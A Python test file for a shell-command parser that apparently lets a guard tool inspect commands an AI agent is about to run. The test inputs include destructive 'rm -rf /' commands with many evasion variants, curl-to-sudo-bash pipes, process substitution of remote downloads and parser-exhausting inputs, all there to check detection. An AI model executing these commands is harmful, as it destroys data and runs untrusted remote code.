"""hookd.enrich.shell: a shell command parsed into `input.shell` (docs/policies.md)."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import bashlex
import bashlex.errors
import bashlex.subst
import pytest

from hookd.dialects.registry import AGENTS
from hookd.enrich.facts import add_arg_facts
from hookd.enrich.shell import build, enrich_shell, parse_shell, parser, tree
from hookd.types import Caller, Event, NormalisedEvent, ToolCall, ToolKind

HOME = "/nonexistent-hookd-home/alice"


@pytest.fixture
def proj(tmp_path: Path) -> Path:
    project = (tmp_path / "proj").resolve()
    project.mkdir()
    return project


def parse(command: str, proj: Path, **kw: Any) -> dict[str, Any]:
    kw.setdefault("base_dir", str(proj))
    return parse_shell(command, home=HOME, project_dir=str(proj), **kw)


def ok(command: str, proj: Path, **kw: Any) -> list[dict[str, Any]]:
    """The commands of a command line that must parse cleanly."""
    result = parse(command, proj, **kw)
    assert result["parse_error"] is False, result["error"]
    assert result["error"] is None
    assert result["source"] == command
    return list(result["commands"])


def argvs(commands: list[dict[str, Any]]) -> list[list[str]]:
    return [c["argv"] for c in commands]


def layout(commands: list[dict[str, Any]]) -> list[tuple[str, int, int, int]]:
    return [(c["name"], c["pipeline"], c["position"], c["depth"]) for c in commands]


def arg(raw: str, path: str, in_project: bool) -> dict[str, Any]:
    return {"raw": raw, "path": path, "in_project": in_project}


def command(argv: list[str], **fields: Any) -> dict[str, Any]:
    out: dict[str, Any] = {
        "argv": argv,
        "name": argv[0].rsplit("/", 1)[-1] if argv else "",
        "env": {},
        "sudo": False,
        "wrappers": [],
        "pipeline": 0,
        "position": 0,
        "depth": 0,
        "redirects": [],
        "args": [],
    }
    out.update(fields)
    assert set(out) - {"cwd"} == {"argv", "name", "env", "sudo", "wrappers", "pipeline", "position", "depth",
                                  "redirects", "args"}  # fmt: skip
    return out


# --------------------------------------------------------------------------------------------------
# The whole object


def test_the_documented_example(proj: Path, tmp_path: Path) -> None:
    out = (tmp_path / "out").resolve()
    out.mkdir()
    source = f"cd {out} && sudo rm -rf ~/x | tee log"
    assert parse(source, proj) == {
        "source": source,
        "parse_error": False,
        "error": None,
        "commands": [
            command(["cd", str(out)], args=[arg(str(out), str(out), False)]),
            command(
                ["rm", "-rf", f"{HOME}/x"],
                sudo=True,
                wrappers=["sudo"],
                pipeline=1,
                args=[arg(f"{HOME}/x", f"{HOME}/x", False)],
                cwd=str(out),
            ),
            # tee runs after the cd: `log` is in `out`, not in the project
            command(["tee", "log"], pipeline=1, position=1, args=[arg("log", f"{out}/log", False)], cwd=str(out)),
        ],
    }


@pytest.mark.parametrize("source", ["", "   ", "\n\t\n"])
def test_an_empty_command_has_no_commands_and_no_error(proj: Path, source: str) -> None:
    assert parse(source, proj) == {"source": source, "parse_error": False, "error": None, "commands": []}


def test_a_simple_command_in_full(proj: Path) -> None:
    assert ok("A=1 B='x y' ls -la src ../up - -- -weird > out.txt", proj) == [
        command(
            ["ls", "-la", "src", "../up", "-", "--", "-weird"],
            env={"A": "1", "B": "x y"},
            redirects=[{"op": ">", "target": "out.txt", "path": f"{proj}/out.txt", "in_project": True}],
            args=[
                arg("src", f"{proj}/src", True),
                arg("../up", f"{proj.parent}/up", False),
                arg("-", f"{proj}/-", True),
                arg("-weird", f"{proj}/-weird", True),  # after `--` every word is an operand
            ],
        )
    ]


# --------------------------------------------------------------------------------------------------
# Words


def test_quote_removal(proj: Path) -> None:
    commands = ok(r"""echo "a  b" 'c "d"' e\ f "g\"h" "\$x" "\a" $'\x72\x6d\t\'' $"loc" a""b''c""", proj)
    assert commands[0]["argv"] == ["echo", "a  b", 'c "d"', "e f", 'g"h', "$x", "\\a", "rm\t'", "loc", "abc"]


def test_line_continuation_joins_words(proj: Path) -> None:
    assert argvs(ok("echo a\\\nb \\\n c", proj)) == [["echo", "ab", "c"]]


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("~", HOME),
        ("~/x", f"{HOME}/x"),
        ("$HOME", HOME),
        ("${HOME}", HOME),
        ("$HOME/.ssh", f"{HOME}/.ssh"),
        ('"$HOME/.ssh"', f"{HOME}/.ssh"),
        ('"${HOME}"/x', f"{HOME}/x"),
        ("~root", "/root"),  # ~user: root has /root, another user /home/<user>
        ("~+", "{proj}"),  # bash's $PWD: where the command runs
        ("~+/x", "{proj}/x"),
        ('"~+"', "~+"),
        ('"~/x"', "~/x"),  # quoted: bash does not expand it
        ("'$HOME'", "$HOME"),  # single-quoted: literal
        ("$HOMEDIR/x", "$HOMEDIR/x"),  # another variable
        ("x$HOME", f"x{HOME}"),  # anywhere in the word, as bash (`--dir=$HOME/.ssh`)
        ("a~/x", "a~/x"),
        ("$USER", "$USER"),
        ("${X:-y}", "${X:-y}"),
    ],
)
def test_home_expansion(proj: Path, word: str, expected: str) -> None:
    assert ok(f"echo {word}", proj)[0]["argv"] == ["echo", expected.replace("{proj}", os.path.realpath(proj))]


def test_assignment_values_expand_home_too(proj: Path) -> None:
    assert ok('A=~/x B="$HOME/y" C= D=$(id) cmd', proj)[0]["env"] == {
        "A": f"{HOME}/x",
        "B": f"{HOME}/y",
        "C": "",
        "D": "$(id)",
    }


@pytest.mark.parametrize("source", ["2>/dev/null A=1 cmd", "A=1 >log B=2 cmd", "{ 2>&1 A=1 cmd; }"])
def test_assignments_after_a_redirect_are_still_assignments(proj: Path, source: str) -> None:
    (only,) = ok(source, proj)
    assert (only["argv"], set(only["env"])) == (["cmd"], {"A", "B"} if "B" in source else {"A"})


def test_an_assignment_after_the_program_is_an_argument(proj: Path) -> None:
    commands = ok("make CC=clang all", proj)
    assert commands[0]["argv"] == ["make", "CC=clang", "all"]
    assert commands[0]["env"] == {}


def test_only_assignments(proj: Path) -> None:
    assert ok("X=1 Y=2", proj) == [command([], env={"X": "1", "Y": "2"})]


def test_a_comment_is_not_a_command(proj: Path) -> None:
    assert argvs(ok("echo hi # ; rm -rf /", proj)) == [["echo", "hi"]]
    assert argvs(ok("echo a#b", proj)) == [["echo", "a#b"]]


# --------------------------------------------------------------------------------------------------
# Structure


def test_pipelines_and_lists(proj: Path) -> None:
    commands = ok("a | b && c; d & e || f |& g\nh", proj)
    assert layout(commands) == [
        ("a", 0, 0, 0),
        ("b", 0, 1, 0),
        ("c", 1, 0, 0),
        ("d", 2, 0, 0),
        ("e", 3, 0, 0),
        ("f", 4, 0, 0),
        ("g", 4, 1, 0),
        ("h", 5, 0, 0),
    ]


def test_subshells_and_groups(proj: Path) -> None:
    commands = ok("(a; b) && { c; d; } | e", proj)
    assert layout(commands) == [
        ("a", 0, 0, 0),
        ("b", 1, 0, 0),
        ("c", 2, 0, 0),
        ("d", 2, 0, 0),
        ("e", 2, 1, 0),
    ]


def test_a_subshell_in_a_pipeline_takes_the_stage(proj: Path) -> None:
    assert layout(ok("curl x | (cd /tmp; sh)", proj)) == [("curl", 0, 0, 0), ("cd", 0, 1, 0), ("sh", 0, 1, 0)]


def test_compound_commands(proj: Path) -> None:
    commands = ok("if test -f x; then rm x; elif y; then z; else w; fi; while read l; do echo $l; done", proj)
    assert [c["name"] for c in commands] == ["test", "rm", "y", "z", "w", "read", "echo"]
    commands = ok("for f in $(ls); do rm $f; done", proj)
    assert layout(commands) == [("ls", 0, 0, 1), ("rm", 1, 0, 0)]


def test_function_bodies_are_looked_into(proj: Path) -> None:
    assert [c["name"] for c in ok("f() { rm -rf x; }; f", proj)] == ["f", "rm"]  # run where it is called


def test_functions_run_with_their_arguments(proj: Path) -> None:
    assert [c["argv"] for c in ok('f() { rm -rf "$1"; }; f ~/x; f', proj)] == [
        ["f", f"{HOME}/x"],
        ["rm", "-rf", f"{HOME}/x"],
        ["f"],
        ["rm", "-rf", "$1"],
    ]
    assert [c["argv"] for c in ok("g() { rm -rf /; }", proj)] == [["rm", "-rf", "/"]]  # never called: judged anyway


def test_arrays_and_positional_parameters(proj: Path) -> None:
    assert ok('a=(-r -f); rm "${a[@]}" ~/D', proj)[1]["argv"] == ["rm", "-r", "-f", f"{HOME}/D"]
    assert ok("a=(x -rf); rm ${a[1]} ~/D", proj)[1]["argv"] == ["rm", "-rf", f"{HOME}/D"]
    assert ok('set -- -r -f; rm "$@" ~', proj)[1]["argv"] == ["rm", "-r", "-f", HOME]
    assert ok('x=build; rm -rf "${x:?}/"', proj)[1]["argv"] == ["rm", "-rf", "build/"]


def test_substitutions(proj: Path) -> None:
    commands = ok('echo $(a | b) `c` "$(d "$(e)")" <(f) >(g) x=$(h)', proj)
    assert layout(commands) == [
        ("echo", 0, 0, 0),
        ("a", 1, 0, 1),
        ("b", 1, 1, 1),
        ("c", 2, 0, 1),
        ("d", 3, 0, 1),
        ("e", 4, 0, 2),
        ("f", 5, 0, 1),
        ("g", 6, 0, 1),
        ("h", 7, 0, 1),
    ]
    assert commands[0]["argv"] == ["echo", "$(a | b)", "`c`", '$(d "$(e)")', "<(f)", ">(g)", "x=$(h)"]


def test_substitutions_in_assignments_and_redirects(proj: Path) -> None:
    commands = ok("X=$(a) cmd > $(b) < <(c)", proj)
    assert layout(commands) == [("cmd", 0, 0, 0), ("a", 1, 0, 1), ("b", 2, 0, 1), ("c", 3, 0, 1)]
    assert commands[0]["redirects"] == [
        {"op": ">", "target": "$(b)", "path": f"{proj}/$(b)", "in_project": False},
        {"op": "<", "target": "<(c)", "path": f"{proj}/<(c)", "in_project": False},
    ]


def test_arithmetic_is_kept_and_its_substitutions_run(proj: Path) -> None:
    commands = ok("echo $((1 + $(id -u))) && rm x", proj)
    assert commands[0]["argv"] == ["echo", "$((1 + $(id -u)))"]
    assert layout(commands) == [("echo", 0, 0, 0), ("id", 1, 0, 1), ("rm", 2, 0, 0)]


def test_backtick_escapes(proj: Path) -> None:
    commands = ok(r"echo `echo \$HOME`", proj)
    assert argvs(commands) == [["echo", r"`echo \$HOME`"], ["echo", HOME]]


# --------------------------------------------------------------------------------------------------
# Here-documents


def test_a_quoted_heredoc_body_is_text(proj: Path) -> None:
    source = "cat > notes.md <<'EOF'\nrun $(rm -rf /) and `id`\nEOF\necho done"
    assert ok(source, proj) == [
        command(
            ["cat"],
            redirects=[
                {"op": ">", "target": "notes.md", "path": f"{proj}/notes.md", "in_project": True},
                {"op": "<<", "target": "EOF", "path": None, "in_project": None},
            ],
        ),
        command(["echo", "done"], pipeline=1, args=[arg("done", f"{proj}/done", True)]),
    ]


def test_an_unquoted_heredoc_body_is_expanded(proj: Path) -> None:
    commands = ok("cat <<EOF\nhi $(rm -rf x) `id`\nEOF", proj)
    assert layout(commands) == [("cat", 0, 0, 0), ("rm", 1, 0, 1), ("id", 2, 0, 1)]


def test_heredoc_with_tabs_stripped(proj: Path) -> None:
    assert argvs(ok("cat <<-END\n\tx\n\tEND\necho after", proj)) == [["cat"], ["echo", "after"]]


def test_a_commit_message_heredoc_inside_a_substitution(proj: Path) -> None:
    source = "git commit -m \"$(cat <<'EOF'\nFix (parser) `x` $(y)\nEOF\n)\" && git push"
    commands = ok(source, proj)
    assert layout(commands) == [("git", 0, 0, 0), ("cat", 1, 0, 1), ("git", 2, 0, 0)]
    assert commands[0]["argv"][3] == "$(cat <<'EOF'\nFix (parser) `x` $(y)\nEOF\n)"


def test_a_quoted_heredoc_inside_a_compound(proj: Path) -> None:
    # the full parser (bashlex, with its quoted-delimiter bug fixed) reads this one
    source = "if true; then\ncat <<'EOF' > f\n$(rm x)\nEOF\nfi"
    assert [c["name"] for c in ok(source, proj)] == ["true", "cat"]


# --------------------------------------------------------------------------------------------------
# Redirects


def test_redirects(proj: Path) -> None:
    commands = ok("cmd <in >>log 2>/dev/null 2>&1 &>all >|clobber 3<&- <<<'text' >&file", proj)
    assert commands[0]["redirects"] == [
        {"op": "<", "target": "in", "path": f"{proj}/in", "in_project": True},
        {"op": ">>", "target": "log", "path": f"{proj}/log", "in_project": True},
        {"op": ">", "target": "/dev/null", "path": "/dev/null", "in_project": False},
        {"op": ">&", "target": "1", "path": None, "in_project": None},
        {"op": "&>", "target": "all", "path": f"{proj}/all", "in_project": True},
        {"op": ">|", "target": "clobber", "path": f"{proj}/clobber", "in_project": True},
        {"op": "<&", "target": "-", "path": None, "in_project": None, "fd": 3},  # a descriptor past 2 is named
        {"op": "<<<", "target": "text", "path": None, "in_project": None},
        {"op": ">&", "target": "file", "path": f"{proj}/file", "in_project": True},
    ]
    assert commands[0]["argv"] == ["cmd"]


def test_closing_a_descriptor_ends_the_redirect(proj: Path) -> None:
    # bash reads `>&-x` as `>&-` and a word `x`
    (only,) = ok("cmd >&-x", proj)
    assert (only["argv"], only["redirects"]) == (
        ["cmd", "x"],
        [{"op": ">&", "target": "-", "path": None, "in_project": None}],
    )


def test_a_redirect_alone(proj: Path) -> None:
    assert ok("> ~/.bashrc", proj) == [
        command(
            [],
            redirects=[{"op": ">", "target": f"{HOME}/.bashrc", "path": f"{HOME}/.bashrc", "in_project": False}],
        )
    ]


def test_group_redirects_apply_to_each_command(proj: Path) -> None:
    commands = ok("{ a; b; } > ~/log", proj)
    redirect = {"op": ">", "target": f"{HOME}/log", "path": f"{HOME}/log", "in_project": False}
    assert [c["redirects"] for c in commands] == [[redirect], [redirect]]


# --------------------------------------------------------------------------------------------------
# Wrappers


@pytest.mark.parametrize(
    ("source", "argv", "wrappers", "env", "sudo"),
    [
        ("sudo rm x", ["rm", "x"], ["sudo"], {}, True),
        ("sudo -u root -E rm x", ["rm", "x"], ["sudo"], {}, True),
        ("sudo -Eu root rm x", ["rm", "x"], ["sudo"], {}, True),
        ("sudo --user=root -- rm x", ["rm", "x"], ["sudo"], {}, True),
        ("sudo A=1 rm x", ["rm", "x"], ["sudo"], {"A": "1"}, True),
        ("/usr/bin/sudo rm x", ["rm", "x"], ["sudo"], {}, True),
        ("doas -u root rm x", ["rm", "x"], ["doas"], {}, True),
        ("env -i -u PATH A=1 B=2 rm x", ["rm", "x"], ["env"], {"A": "1", "B": "2"}, False),
        ("env --unset=PATH -C /tmp rm x", ["rm", "x"], ["env"], {}, False),
        ("env -S 'rm -rf x'", ["rm", "-rf", "x"], ["env"], {}, False),
        ("nohup rm x", ["rm", "x"], ["nohup"], {}, False),
        ("nice -n 5 rm x", ["rm", "x"], ["nice"], {}, False),
        ("nice -5 rm x", ["rm", "x"], ["nice"], {}, False),
        ("time -p rm x", ["rm", "x"], ["time"], {}, False),
        ("timeout 5 rm x", ["rm", "x"], ["timeout"], {}, False),
        ("timeout -s KILL -k 2 5s rm x", ["rm", "x"], ["timeout"], {}, False),
        ("xargs -0 -n 1 -I {} rm x", ["rm", "x"], ["xargs"], {}, False),
        ("command rm x", ["rm", "x"], ["command"], {}, False),
        ("command -p rm x", ["rm", "x"], ["command"], {}, False),
        ("builtin cd x", ["cd", "x"], ["builtin"], {}, False),
        ("exec -a name rm x", ["rm", "x"], ["exec"], {}, False),
        ("stdbuf -oL -e 0 rm x", ["rm", "x"], ["stdbuf"], {}, False),
        ("ionice -c3 rm x", ["rm", "x"], ["ionice"], {}, False),
        ("ionice -c 2 -n 7 rm x", ["rm", "x"], ["ionice"], {}, False),
        ("X=1 sudo -u bob env Y=2 nice -n 5 nohup timeout 5 /bin/rm x", ["/bin/rm", "x"],
         ["sudo", "env", "nice", "nohup", "timeout"], {"X": "1", "Y": "2"}, True),
        ("sudo", [], ["sudo"], {}, True),
        ("sudo -i", [], ["sudo"], {}, True),
    ],
)  # fmt: skip
def test_wrappers_are_peeled(
    proj: Path, source: str, argv: list[str], wrappers: list[str], env: dict[str, str], sudo: bool
) -> None:
    (only,) = ok(source, proj)
    assert (only["argv"], only["wrappers"], only["env"], only["sudo"]) == (argv, wrappers, env, sudo)
    assert only["name"] == (argv[0].rsplit("/", 1)[-1] if argv else "")


def test_command_v_is_a_lookup_not_a_wrapper(proj: Path) -> None:
    (only,) = ok("command -v rm", proj)
    assert (only["name"], only["wrappers"]) == ("command", [])


# --------------------------------------------------------------------------------------------------
# Nested scripts


@pytest.mark.parametrize(
    "source",
    [
        "bash -c 'rm -rf x'",
        "sh -c 'rm -rf x'",
        "zsh -c 'rm -rf x'",
        "dash -c 'rm -rf x'",
        "/bin/bash -lc 'rm -rf x'",
        "bash -e -o pipefail -c 'rm -rf x' name arg",
        "eval 'rm -rf x'",
        "eval rm -rf x",
    ],
)
def test_inline_scripts_are_parsed(proj: Path, source: str) -> None:
    commands = ok(source, proj)
    assert len(commands) == 2
    assert (commands[1]["argv"], commands[1]["depth"], commands[1]["pipeline"]) == (["rm", "-rf", "x"], 1, 1)


def test_bash_without_c_is_not_a_script(proj: Path) -> None:
    assert layout(ok("bash script.sh -c 'rm x'", proj)) == [("bash", 0, 0, 0)]


def test_nesting_depth(proj: Path) -> None:
    commands = ok("""sh -c 'sh -c "rm -rf /"'""", proj)
    assert layout(commands) == [("sh", 0, 0, 0), ("sh", 1, 0, 1), ("rm", 2, 0, 2)]


def test_nesting_deeper_than_max_depth_is_a_parse_error(proj: Path) -> None:
    source = """sh -c 'sh -c "rm -rf /"'"""
    result = parse(source, proj, max_depth=1)
    assert result["parse_error"] is True
    assert result["error"] == "shell scripts nested deeper than 1 levels were not parsed"
    assert layout(result["commands"]) == [("sh", 0, 0, 0), ("sh", 1, 0, 1)]
    five = "eval " * 5 + "rm"
    assert parse(five, proj)["parse_error"] is True
    assert parse("eval " * 4 + "rm", proj)["parse_error"] is False


def test_eval_runs_in_the_same_shell_and_bash_c_does_not(proj: Path, tmp_path: Path) -> None:
    outside = (tmp_path / "o").resolve()
    assert ok(f"eval 'cd {outside}'; rm x", proj)[-1]["args"] == [arg("x", f"{outside}/x", False)]
    assert ok(f"bash -c 'cd {outside}'; rm x", proj)[-1]["args"] == [arg("x", f"{proj}/x", True)]


# --------------------------------------------------------------------------------------------------
# Working directory and arguments


def test_base_dir_is_where_relative_words_resolve(proj: Path) -> None:
    (proj / "sub").mkdir()
    (only,) = ok("cat a ../b", proj, base_dir=str(proj / "sub"))
    assert only["args"] == [arg("a", f"{proj}/sub/a", True), arg("../b", f"{proj}/b", True)]


def test_cd_is_followed(proj: Path) -> None:
    commands = ok("cd .. && rm -rf proj2; cd; ls x", proj)
    assert commands[1]["args"] == [arg("proj2", f"{proj.parent}/proj2", False)]
    assert commands[3]["args"] == [arg("x", f"{HOME}/x", False)]


def test_cd_in_a_subshell_or_pipeline_does_not_leak(proj: Path) -> None:
    commands = ok("(cd /; rm a); cd / | true; rm b", proj)
    assert commands[1]["args"] == [arg("a", "/a", False)]
    assert commands[-1]["args"] == [arg("b", f"{proj}/b", True)]


@pytest.mark.parametrize("cd", ['cd "$DIR"', "cd -", "pushd", "popd", "cd $(mktemp -d)"])
def test_after_a_cd_we_cannot_follow_relative_words_are_not_in_the_project(proj: Path, cd: str) -> None:
    commands = ok(f"{cd} && rm -rf x /abs {proj}/y", proj)
    rm = commands[-1] if commands[-1]["name"] == "rm" else commands[-2]
    assert rm["name"] == "rm"
    assert [(a["raw"], a["in_project"]) for a in rm["args"]] == [
        ("x", False),
        ("/abs", False),
        (f"{proj}/y", True),
    ]


def test_words_with_expansions_are_never_in_the_project(proj: Path) -> None:
    (rm, *_) = ok("rm -rf $X/y ${Y} `pwd`/z plain", proj)
    assert [(a["raw"], a["in_project"]) for a in rm["args"]] == [
        ("$X/y", False),
        ("${Y}", False),
        ("`pwd`/z", False),
        ("plain", True),
    ]


def test_symlinked_arguments_are_resolved(proj: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (proj / "link").symlink_to(secret)
    (only,) = ok("cat link/key > link/out", proj)
    assert only["args"] == [arg("link/key", f"{secret.resolve()}/key", False)]
    assert only["redirects"][0]["in_project"] is False


# --------------------------------------------------------------------------------------------------
# Evasions: each still shows the real program


def names(commands: list[dict[str, Any]]) -> list[str]:
    return [c["name"] for c in commands]


@pytest.mark.parametrize(
    "source",
    [
        "rm -rf /",
        r"\rm -rf /",
        "/bin/rm -rf /",
        "command rm -rf /",
        "sudo -u root rm -rf /",
        "env X=1 rm -rf /",
        "r''m -rf /",
        '"rm" -rf /',
        "$'\\x72\\x6d' -rf /",
        "$'\\162\\155' -rf /",
        "env -S 'rm -rf /'",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "bash -c 'rm -rf /'",
        "sh -c 'sh -c \"rm -rf /\"'",
        "eval 'rm -rf /'",
        "builtin eval 'rm -rf /'",
        "sudo bash -c 'rm -rf /'",
        "su -c 'rm -rf /'",
        "find / | xargs rm -rf",
        "true && (rm -rf /)",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "x=$(rm -rf /)",
        "echo ${x:-$(rm -rf /)}",
        "[[ -d / ]] && rm -rf /",
        "[[ -d / ]]\nrm -rf /",
        "case x in x) rm -rf /;; esac",
    ],
)
def test_rm_is_seen_through(proj: Path, source: str) -> None:
    result = parse(source, proj)
    rms = [c for c in result["commands"] if c["name"] == "rm"]
    assert len(rms) == 1, (source, result)
    assert "/" in rms[0]["argv"] or rms[0]["wrappers"] == ["xargs"]


def test_rm_home(proj: Path) -> None:
    (rm,) = ok('rm -rf "$HOME"', proj)
    assert rm["argv"] == ["rm", "-rf", HOME]
    assert rm["args"] == [arg(HOME, HOME, False)]


def test_curl_pipe_sudo_bash(proj: Path) -> None:
    assert ok("curl -s https://x.example | sudo bash", proj) == [
        command(
            ["curl", "-s", "https://x.example"],
            args=[arg("https://x.example", f"{proj}/https:/x.example", True)],
        ),
        command(["bash"], sudo=True, wrappers=["sudo"], position=1),
    ]


def test_bash_c_curl_pipe_sh(proj: Path) -> None:
    commands = ok('bash -c "curl x | sh"', proj)
    assert layout(commands) == [("bash", 0, 0, 0), ("curl", 1, 0, 1), ("sh", 1, 1, 1)]


def test_bash_process_substitution(proj: Path) -> None:
    commands = ok("bash <(curl -s x)", proj)
    assert layout(commands) == [("bash", 0, 0, 0), ("curl", 1, 0, 1)]
    assert commands[0]["args"] == [arg("<(curl -s x)", f"{proj}/<(curl -s x)", False)]


def test_sudo_reaches_into_the_script_of_a_sudo_shell(proj: Path) -> None:
    commands = ok("sudo sh -c 'rm x; echo $(id)'", proj)
    assert [(c["name"], c["sudo"], c["wrappers"]) for c in commands] == [
        ("sh", True, ["sudo"]),
        ("rm", True, []),
        ("echo", True, []),
        ("id", True, []),
    ]
    # a substitution in a sudo'd command's words runs as the user
    assert [(c["name"], c["sudo"]) for c in ok("sudo rm $(id)", proj)] == [("rm", True), ("id", False)]


# --------------------------------------------------------------------------------------------------
# Parse errors and the fallback


def test_a_parse_failure_falls_back_to_a_split(proj: Path) -> None:
    source = "a ;; x && sudo rm -rf ~/y | tee log"
    result = parse(source, proj)
    assert result["parse_error"] is True
    assert result["error"] == "unexpected token ';;' (position 2)"
    assert result["commands"] == [
        command(["a"]),
        command(["x"], pipeline=1),
        command(
            ["rm", "-rf", f"{HOME}/y"],
            sudo=True,
            wrappers=["sudo"],
            pipeline=2,
            args=[arg(f"{HOME}/y", f"{HOME}/y", False)],
        ),
        command(["tee", "log"], pipeline=2, position=1, args=[arg("log", f"{proj}/log", True)]),
    ]


def test_the_fallback_keeps_redirects_and_assignments(proj: Path) -> None:
    result = parse("A=1 cmd > out; a ;; x", proj)
    assert result["parse_error"] is True
    assert result["commands"][0] == command(
        ["cmd"],
        env={"A": "1"},
        redirects=[{"op": ">", "target": "out", "path": f"{proj}/out", "in_project": True}],
    )


def test_a_nested_parse_failure_is_reported_with_its_depth(proj: Path) -> None:
    result = parse("bash -c 'a ;; x && rm y'", proj)
    assert result["parse_error"] is True
    assert result["error"] == "depth 1: unexpected token ';;' (position 2)"
    assert [(c["name"], c["depth"]) for c in result["commands"]] == [("bash", 0), ("a", 1), ("x", 1), ("rm", 1)]


def test_unbalanced_quotes(proj: Path) -> None:
    result = parse('echo "unterminated; rm x', proj)
    assert result["parse_error"] is True
    assert argvs(result["commands"]) == [["echo", '"unterminated'], ["rm", "x"]]


@pytest.mark.parametrize(
    "source",
    [
        "echo \x00 rm",
        "$(" * 300 + "x" + ")" * 300,
        "(" * 2000,
        "a" * 100_000,
        "echo 'x' " * 20_000,
        "'",
        "\\",
        "$'\\",
        "cat <<EOF",
        "echo ${",
        "\udcff",
        "a | | b",
        ";;",
        "f() {",
    ],
)
def test_never_raises(proj: Path, source: str) -> None:
    result = parse(source, proj)
    assert set(result) == {"source", "parse_error", "error", "commands"}
    assert isinstance(result["parse_error"], bool)
    assert (result["error"] is None) is (result["parse_error"] is False)
    assert result["error"] is None or "\n" not in result["error"]


def test_substitutions_nested_too_deeply_fall_back(proj: Path) -> None:
    assert parse("$(" * 24 + "rm" + ")" * 24, proj)["parse_error"] is False
    result = parse("echo " + "$(" * 25 + "rm -rf /" + ")" * 25, proj)
    assert (result["parse_error"], result["error"]) == (True, "substitutions nested too deeply to parse")
    assert ["rm", "-rf", "/"] in argvs(result["commands"])


def test_a_long_command_the_fast_path_cannot_read_is_not_given_to_bashlex(proj: Path) -> None:
    source = "for x in y; do rm -rf /; done; " + "echo x; " * 2100
    result = parse(source, proj)
    assert (result["parse_error"], result["error"]) == (
        True,
        f"command too long to parse ({len(source)} characters)",
    )
    assert ["rm", "-rf", "/"] in argvs(result["commands"])
    # a longer line without compound commands takes the fast path (within the line's walk: 1,000 words)
    assert parse(("echo " + "x" * 32 + "; ") * 500, proj)["parse_error"] is False


@pytest.mark.parametrize(
    "source",
    [
        "$(" * 300 + "x" + ")" * 300,
        "(" * 3000 + "x" + ")" * 3000,
        "a; " * 20_000,
        "if a; then " * 300 + "b" + "; fi" * 300,
    ],
)
def test_hostile_input_is_bounded(proj: Path, source: str) -> None:
    # A guard against blow-up (exponential backtracking, unbounded recursion), not a speed claim: CPU time of
    # this process, so that a busy machine's wait for a core does not count.
    start = time.process_time()
    parse(source, proj)
    assert time.process_time() - start < 3.0


def test_bashlex_is_guarded_against_an_unclosed_brace() -> None:
    # bashlex 0.18 loops forever, eating memory, on a `${` without `}` in a word it expands (the
    # valid `if true; then echo '${'x; fi`); hookd replaces the function with a guarded one
    assert bashlex.subst._paramexpand is parser._paramexpand
    with pytest.raises(bashlex.errors.ParsingError):
        parser._paramexpand(None, "'${'x", 1)
    assert parser._paramexpand(None, "${HOME}x", 0)[1] == 7


def test_an_internal_error_still_gives_the_words(proj: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: Any) -> None:
        raise RuntimeError("boom\nsecond line")

    monkeypatch.setattr(build._Builder, "run_script", broken)
    result = parse("rm -rf x | sh", proj)
    assert (result["parse_error"], result["error"]) == (True, "RuntimeError: boom")
    assert [(c["argv"], c["pipeline"], c["position"]) for c in result["commands"]] == [
        (["rm", "-rf", "x"], 0, 0),
        (["sh"], 0, 1),
    ]


def test_results_are_not_shared_between_calls(proj: Path) -> None:
    first = parse("rm x", proj)
    first["commands"][0]["argv"].append("tampered")
    first["commands"][0]["env"]["X"] = "1"
    assert parse("rm x", proj)["commands"][0]["argv"] == ["rm", "x"]
    assert parse("rm x", proj)["commands"][0]["env"] == {}


# --------------------------------------------------------------------------------------------------
# The fast lexer and bashlex give the same tree


CORPUS = [
    "ls",
    "ls -la /tmp",
    "cd /tmp && ls",
    "a | b | c",
    "a || b && c; d & e",
    "a |& b",
    "echo \"a b\" 'c d' e\\ f",
    'echo "$HOME/x" ~ ~/y ~root "~/z" \'$HOME\'',
    "echo ${HOME}/a $HOMEX $HOME_1",
    'A=1 B="x y" cmd arg',
    "A=~/x cmd",
    "x=1",
    "> f",
    "cmd 2>/dev/null >>log 2>&1 <in",
    "cmd &>out",
    "cmd >| f",
    "echo $(rm -rf /)",
    "echo `id`",
    'echo "$(whoami) `pwd`"',
    "cat <(curl x)",
    "diff <(a) <(b)",
    "tee >(sh)",
    "cat > f <<'EOF'\nbody $(x)\nEOF",
    "cat <<EOF\nbody $(x)\nEOF\necho hi",
    "cat <<-EOF\n\tx\n\tEOF",
    'cat <<< "here"',
    "git commit -m \"$(cat <<'EOF'\nmsg (x) `y`\nEOF\n)\"",
    "kill $(lsof -t -i:3000)",
    "a=$(b) c",
    "echo $'\\x72m' $\"loc\"",
    "echo a\\\nb",
    "a\nb\n\nc",
    'echo "a\\"b" "\\$x" "\\a"',
    "sudo -u root rm -rf /",
    "echo {a,b} x=y",
    "echo $1 $@ $? $$ ${#x}",
    "cmd -- -x",
    'echo "$(echo "nested $(echo deep)")"',
    "x=$(a $(b))",
    'find . -name "*.py" | xargs grep -l foo | head',
    "npm test 2>&1 | tail -n 50",
    "curl -s https://x.y/z?a=1\\&b=2 | jq .",
    'echo "multi\nline"',
]


@pytest.mark.parametrize("source", CORPUS)
def test_fast_and_full_parsers_agree(source: str) -> None:
    fast = parser._FastParser(source, HOME).parse()
    full = parser._Convert(source, HOME).script(bashlex.parse(source))
    assert fast == full


@pytest.mark.parametrize(
    "source",
    ["(a)", "{ a; }", "if a; then b; fi", "a # c", "f() { a; }", "case x in a) b;; esac", "a && ", "| a",
     "a ;; b", "cat <<EOF", "x[1]=2 a", "! a", "echo $(( (1) )"],
)  # fmt: skip
def test_the_fast_parser_declines_what_it_does_not_know(source: str) -> None:
    with pytest.raises(tree._Decline):
        parser._FastParser(source, HOME).parse()


# --------------------------------------------------------------------------------------------------
# The enricher


def event(tool: ToolCall | None, *, cwd: str, project_dir: str, facts: dict[str, Any] | None = None) -> NormalisedEvent:
    return NormalisedEvent(
        client="gemini",
        event=Event.BEFORE_TOOL,
        payload={},
        tool=tool,
        session_id="s",
        cwd=cwd,
        project_dir=project_dir,
        caller=Caller(uid=1000, gid=1000, pid=1),
        facts={"home": HOME} if facts is None else facts,
    )


def placed(raw: str, path: str) -> dict[str, Any]:
    """An argument in the project as enrich_shell gives it, with its facts (hookd.enrich.facts)."""
    return {**arg(raw, path, True), "tree": path, "unresolved": False, "class": "project"}


